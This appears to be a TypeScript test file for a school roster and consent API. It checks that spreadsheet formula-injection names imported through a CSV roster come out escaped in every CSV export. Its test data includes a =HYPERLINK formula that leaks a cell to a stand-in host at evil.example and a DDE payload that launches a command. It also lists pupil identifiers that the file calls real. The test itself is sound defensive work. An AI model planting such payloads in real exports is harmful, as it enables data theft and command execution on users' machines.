// A roster whose names are spreadsheet formulas (=HYPERLINK(...) and its cousins) is imported,
// the names travel through drafts and the audit trail, and every CSV export in the route table
// gives them back as text: no exported cell starts with a character a spreadsheet would run.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { routes } from '../../services/api/routes/index.ts';
import { signedInGatepost } from '../support/gatepost-for-file.ts';

const hostileNames = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
  '+SUM(1,2)',
  '-2+3',
  "@cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

// Real UPNs (with valid check letters) from the corpus roster.
const upns = [
  'V383214725039',
  'Y383229125040',
  'J384301225023',
  'Q384301225027',
  'C384206825038',
  'J383214725042',
];

const roster = [
  'upn,first_name,last_name,preferred_name,year_group,photo_consent,name_consent',
  ...hostileNames.map((name, i) => `${upns[i]},"${name.replaceAll('"', '""')}",Evans${i},,Year 3,yes,yes`),
].join('\n');

const csvRoutes = routes.filter((r) => r.method === 'get' && /\.csv$|CSV/.test(`${r.path} ${r.summary}`));
const formulaStart = /^[=+\-@\t\r]/;

const { gp, officer, head } = signedInGatepost({ role: 'api', as: ['officer', 'head'] });

describe('formula injection through a CSV import', () => {
  it('is neutralised in every CSV export', async () => {
    const imported = await officer('POST', '/api/consent/import', { csv: roster });
    expect(imported.status, JSON.stringify(imported.body)).toBe(200);
    // The names reach the audit trail by other paths too: a rejected draft's reason.
    const { body: draft } = await officer('POST', '/api/drafts', {
      accountIds: [gp.seeded.accountId],
      text: 'Reading week starts on Monday.',
    });
    await officer('DELETE', `/api/drafts/${draft.id}`);

    expect(csvRoutes.length).toBeGreaterThan(0);
    for (const r of csvRoutes) {
      // Reports take a period; the audit export ignores it.
      const period = r.path.includes('reports')
        ? `?from=2000-01-01&to=${new Date().toISOString().slice(0, 10)}`
        : '';
      const res = await head('GET', `${r.path}${period}`);
      expect(res.status, r.path).toBe(200);
      expect(res.headers.get('content-type'), r.path).toMatch(/^text\/csv/);
      const rows = parse(res.body as string, { relax_column_count: true }) as string[][];
      const dangerous = rows.flat().filter((cell) => formulaStart.test(cell));
      expect(dangerous, r.path).toEqual([]);
    }
    // The names were exported (as text), not dropped.
    const audit = await head('GET', '/api/audit.csv');
    expect(audit.body).toContain('HYPERLINK');
  });
});
